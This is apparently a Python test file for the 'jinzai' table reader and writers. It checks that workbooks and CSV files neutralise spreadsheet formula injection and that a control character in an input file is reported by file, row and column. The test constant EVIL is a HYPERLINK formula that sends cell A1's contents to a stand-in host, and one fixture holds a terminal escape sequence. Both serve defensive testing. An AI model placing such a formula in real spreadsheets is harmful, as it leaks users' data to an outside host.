"""jinzai reads and writes through kyodo.tables: the formula guard and the shared checks apply."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from kyodo.jinzai.errors import InputError
from kyodo.jinzai.io import read_table, table_writer, xlsx_writer

EVIL = '=HYPERLINK("http://example.invalid/?d="&A1,"詳細")'


def test_a_specialist_name_starting_with_equals_is_text_in_the_workbook(tmp_path: Path) -> None:
    path = tmp_path / "plan.xlsx"
    xlsx_writer({"割当": (["人材", "時間"], [[EVIL, 12]])})(path)
    with zipfile.ZipFile(path) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    assert read_table(path).rows == ((2, {"人材": EVIL, "時間": "12"}),)


def test_csv_output_is_guarded(tmp_path: Path) -> None:
    path = tmp_path / "specialists.csv"
    table_writer(".csv", ["氏名"], [[EVIL]])(path)
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")


def test_a_control_character_in_a_jinzai_file_is_located(tmp_path: Path) -> None:
    path = tmp_path / "requests.csv"
    path.write_bytes("依頼ID,団体\nR1,千代田区\x1b[2J\n".encode())
    with pytest.raises(InputError) as exc:
        read_table(path)
    (problem,) = exc.value.problems
    assert (problem.file, problem.row, problem.column) == ("requests.csv", 2, "団体")
